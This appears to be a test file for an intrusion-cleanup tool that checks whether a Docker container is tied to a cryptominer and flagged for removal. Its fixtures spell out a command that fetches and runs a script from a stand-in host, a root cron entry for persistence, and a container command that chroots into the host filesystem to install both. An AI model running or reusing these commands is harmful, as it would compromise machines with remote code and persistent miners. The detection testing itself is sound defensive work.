import { describe, expect, test } from 'vitest';
import { trace } from '../../../tests/machine-incident.ts';
import { makeMachineCase, type OnMachine, sha256Of } from '../../../tests/make-machine-case.ts';
import type { ContainerState } from '../../model/machine-payloads.ts';
import { reachItems } from './items.ts';

const miner = '/usr/bin/dockerd-metrics';
const fetched = 'curl -fsSL http://drop.example/cronb.sh | sh';
const cronLine = `* * * * * root ${fetched}`;
const config: OnMachine = {
  in: miner,
  kind: 'mining-config',
  value: { pools: [{ host: 'pool.example.com', port: 3333, login: 'x' }], source: 'binary' },
};
const download: OnMachine = {
  in: miner,
  kind: 'download',
  value: { url: 'http://drop.example/k', tool: 'curl', runs: true },
};
const entry: OnMachine = {
  in: '/etc/cron.d/dockerd-clean',
  kind: 'autostart',
  line: 1,
  value: {
    mechanism: 'cron',
    place: '/etc/cron.d/dockerd-clean',
    entry: cronLine,
    starts: fetched,
    user: 'root',
    modified: '2026-11-19T03:13:00.000Z',
    hash: sha256Of(cronLine),
    why: ['fetches-and-runs'],
  },
};

function container(more: Partial<ContainerState>): OnMachine {
  return {
    in: '/var/lib/docker/containers/5faf/config.v2.json',
    kind: 'container',
    value: {
      runtime: 'docker',
      id: '5fafffeff89a',
      name: 'boring_wozniak',
      image: 'alpine:latest',
      state: 'running',
      command: `chroot /mnt sh -c '${fetched}; echo "${cronLine}" > /etc/cron.d/dockerd-clean'`,
      mounts: ['/'],
      why: ['fetches-and-runs', 'sees-whole-machine'],
      ...more,
    },
  };
}

function itemOf(seen: OnMachine) {
  const parts = [config, download, trace(miner, { owner: 'root' }), entry, seen];
  const evidence = makeMachineCase(parts, [{ detector: 'fixture', stage: 'configured', over: [0, 1] }]);
  return (reachItems(evidence) ?? []).find(({ what }) => what === 'container');
}

describe('the container of an intruder, which mines nothing itself', () => {
  test('goes where it fetches what the miner is fetched from and sets up what starts it', () => {
    expect(itemOf(container({}))).toMatchObject({
      proof: 'shown',
      says: expect.stringContaining('/etc/cron.d/dockerd-clean'),
      removal: [{ do: 'remove-container', container: '5fafffeff89a' }],
    });
  });

  test('is for a person to look at where one thing alone ties it', () => {
    expect(itemOf(container({ command: `sh -c '${fetched}'`, mounts: [] }))?.proof).toBe('likely');
  });

  test('is nobody’s where it fetches something else', () => {
    const command = "sh -c 'curl -fsSL https://get.example.org/setup.sh | sh'";
    expect(itemOf(container({ command, created: '2026-01-01T00:00:00.000Z' }))).toBeUndefined();
  });

  test('is nobody’s where it only sees the machine, as what watches over one does', () => {
    const command = 'cadvisor -logtostderr --raw=/etc/cron.d/dockerd-clean';
    expect(itemOf(container({ command, why: ['sees-whole-machine'] }))).toBeUndefined();
  });
});
